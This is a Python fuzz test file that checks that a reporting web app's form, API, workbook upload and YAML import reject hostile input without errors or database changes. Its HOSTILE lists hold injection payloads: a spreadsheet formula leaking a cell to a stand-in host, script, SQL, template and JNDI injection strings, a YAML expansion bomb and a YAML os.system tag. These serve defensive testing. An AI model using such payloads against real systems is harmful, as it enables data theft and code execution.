"""Issue 13: random and hostile values fed to every write path — the entry form, the API, an
uploaded workbook, a YAML data file — never give a 500 (or an exception out of a use case), and a
refused write leaves the database exactly as it was (data, versions, change log).
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from jixiao.app.entry import entry_form
from jixiao.app.imports import import_files
from jixiao.ingest.files import read_file
from jixiao.store.repository import dump_state
from jixiao.store.schema import ChangeLogRow, UnitYearRow
from web_helpers import EXAMPLES, HAMI, logged_in, make_app, page_csrf

YEAR = 2019
HOSTILE = [
    "1" * 61, "0." + "1" * 61, "-" + "9" * 61, "1e999", "1E-40", "NaN", "Infinity", "-0", "³", "١٢٣", "１２３",
    "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"点我查看\")", "+1+1", "@SUM(A1)", "<script>alert(1)</script>",
    "\x00", "\u202e1234", "1,,2", "万元", "7.42亿元", "3000元", "12.5%", "约100万人", "   ", "", "1" * 20000,
    "' OR 1=1 --", "{{7*7}}", "${jndi:ldap://x}", "null", "true", "-1", "0", "99999999999999999999999999999",
]
value = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=40), st.integers(-10**40, 10**40).map(str),
                  st.decimals(allow_nan=True, allow_infinity=True, places=None).map(str))
SETTINGS = settings(max_examples=25, deadline=None, derandomize=True,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FastAPI]:
    app = make_app(f"sqlite:///{tmp_path_factory.mktemp('fuzz') / 'j.db'}")
    yield app
    app.state.engine.dispose()


@pytest.fixture(scope="module")
def client(app: FastAPI) -> TestClient:
    return logged_in(app, "hami")


def fingerprint(app: FastAPI) -> tuple[Any, ...]:
    """Everything a write could change: the data, the unit-year versions, the change log's length."""
    with Session(app.state.engine) as db:
        versions = sorted((r.unit, r.year, r.version) for r in db.scalars(select(UnitYearRow)))
        log = db.scalar(select(func.count()).select_from(ChangeLogRow))
        return dump_state(db), versions, log


def _fields(app: FastAPI) -> tuple[list[str], int]:
    with Session(app.state.engine) as db:
        form = entry_form(db, HAMI, YEAR)
    return [f.name for r in form.records for f in r.fields], form.version


@SETTINGS
@given(data=st.data())
def test_the_entry_form_never_500s_and_a_refusal_changes_nothing(app: FastAPI, client: TestClient,
                                                                 data: st.DataObject) -> None:
    names, version = _fields(app)
    chosen = data.draw(st.lists(st.sampled_from(names), min_size=1, max_size=4, unique=True))
    values = {name: data.draw(value) for name in chosen}
    if data.draw(st.booleans()):
        values[data.draw(st.text(min_size=1, max_size=20))] = data.draw(value)  # a field that does not exist
    sent_version = data.draw(st.sampled_from([str(version), str(version - 1), "", "abc", "-1", "9" * 30, "１"]))
    before = fingerprint(app)
    answer = client.post(f"/units/{HAMI}/years/{YEAR}/edit", follow_redirects=False, data={
        **values, "version": sent_version, "csrf_token": page_csrf(client, f"/units/{HAMI}/years/{YEAR}/edit")})
    assert answer.status_code in (303, 400, 409, 413, 422), (answer.status_code, values, answer.text[:300])
    if answer.status_code != 303:
        assert fingerprint(app) == before


@SETTINGS
@given(data=st.data())
def test_the_api_never_500s_and_a_refusal_changes_nothing(app: FastAPI, client: TestClient,
                                                          data: st.DataObject) -> None:
    names, version = _fields(app)
    keys = st.one_of(st.sampled_from(names), st.text(max_size=30))
    values = data.draw(st.dictionaries(keys, value, max_size=4))
    body: dict[str, Any] = {"values": values}
    choice = data.draw(st.sampled_from(["current", "old", "none", "huge", "negative", "text"]))
    body.update({"current": {"version": version}, "old": {"version": version - 1}, "none": {},
                 "huge": {"version": 10**12}, "negative": {"version": -5}, "text": {"version": "三"}}[choice])
    before = fingerprint(app)
    answer = client.post(f"/api/units/{HAMI}/years/{YEAR}/entry", json=body,
                         headers={"X-CSRF-Token": page_csrf(client)})
    assert answer.status_code in (200, 400, 409, 413, 422), (answer.status_code, body, answer.text[:300])
    if answer.status_code != 200 or not answer.json().get("changes"):
        assert fingerprint(app) == before


cell_value = st.one_of(st.sampled_from(HOSTILE), st.floats(allow_nan=False), st.integers(-10**20, 10**20),
                       st.booleans(), st.datetimes(min_value=datetime(1900, 1, 1), max_value=datetime(2100, 1, 1)),
                       st.sampled_from(["=1/0", "=A1", "=SUM(1,2)", "=HYPERLINK(\"http://x\",\"y\")", "=\"a\"&\"b\""]))


@pytest.fixture(scope="module")
def workbook(client: TestClient) -> bytes:
    response = client.get(f"/units/{HAMI}/years/{YEAR}/workbook")
    assert response.status_code == 200
    return response.content


def _mutated(workbook: bytes, data: st.DataObject) -> bytes:
    book = load_workbook(io.BytesIO(workbook))
    for _ in range(data.draw(st.integers(1, 4))):
        ws = book.worksheets[data.draw(st.integers(0, len(book.worksheets) - 1))]
        cell = ws.cell(data.draw(st.integers(1, 40)), data.draw(st.integers(1, 8)))
        written = data.draw(cell_value)
        cell.value = written.replace("\x00", "") if isinstance(written, str) else written
    out = io.BytesIO()
    book.save(out)
    raw = out.getvalue()
    if data.draw(st.integers(0, 4)) == 0:  # now and then, damage the package itself
        at = data.draw(st.integers(0, 10**6)) % len(raw)  # the saved length varies (timestamps)
        raw = raw[:at] + bytes([raw[at] ^ 0xFF]) + raw[at + 1:]
    return raw


@settings(max_examples=15, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=st.data())
def test_an_uploaded_workbook_never_500s_and_a_refusal_changes_nothing(app: FastAPI, client: TestClient,
                                                                       workbook: bytes, data: st.DataObject) -> None:
    raw = _mutated(workbook, data)
    before = fingerprint(app)
    answer = client.post(f"/api/units/{HAMI}/workbook", headers={"X-CSRF-Token": page_csrf(client)},
                         files={"file": ("填报.xlsx", raw, "application/octet-stream")})
    assert answer.status_code in (200, 400, 409, 413, 415, 422), (answer.status_code, answer.text[:300])
    if answer.status_code != 200:
        assert fingerprint(app) == before
    if zipfile.is_zipfile(io.BytesIO(raw)) and answer.status_code == 200:
        with Session(app.state.engine) as db:  # whatever was accepted reads back as the model
            assert entry_form(db, HAMI, YEAR).records


yaml_piece = st.sampled_from([
    "money_unit: 万元\n", "units:\n", "  - {code: \"650500\", name: 哈密, level: 市, kind: 医疗保障局}\n",
    "fund_years:\n", "  - unit: \"650500\"\n", "    year: 2019\n", "    fund: 城乡居民基本医疗保险\n",
    "    income: {total: \"" + "9" * 61 + "\"}\n", "    income: {total: \"26780\"}\n", "    income: {total: 1.5}\n",
    "a: &a [x, x, x, x, x, x, x, x, x]\n", "b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n",
    "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\n", "    year: 2019\n", "[[[[[[[[", "}}}", "\t- x\n",
    "    unit: \"650500\"\n", "!!python/object/apply:os.system ['echo hi']\n", "<<: *a\n", "--- \n", "? x\n",
])


@SETTINGS
@given(pieces=st.lists(yaml_piece, max_size=12), noise=st.text(max_size=20))
def test_a_yaml_data_file_never_raises_and_a_refused_load_changes_nothing(app: FastAPI, pieces: list[str],
                                                                          noise: str, tmp_path_factory:
                                                                          pytest.TempPathFactory) -> None:
    path = Path(tmp_path_factory.mktemp("yaml")) / "data.yaml"
    path.write_text("".join(pieces) + noise, encoding="utf-8", errors="replace")
    read_file(path)  # problems, never an exception
    before = fingerprint(app)
    outcome = import_files(app.state.engine, [EXAMPLES / "units.yaml", path])
    if not outcome.ok:
        assert fingerprint(app) == before
